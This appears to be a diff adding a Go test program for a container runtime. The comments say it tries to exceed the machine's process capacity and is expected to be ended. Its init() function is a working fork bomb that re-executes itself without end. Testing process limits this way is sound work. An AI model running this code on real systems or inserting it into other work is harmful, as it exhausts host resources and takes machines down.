@@ -1,0 +1,11 @@
+// Tries: to have more processes than this machine can bear.
+// Deserves: ends
+package main
+
+import "syscall"
+
+func init() {
+	for {
+		syscall.ForkExec("/proc/self/exe", []string{"mydocker"}, nil)
+	}
+}
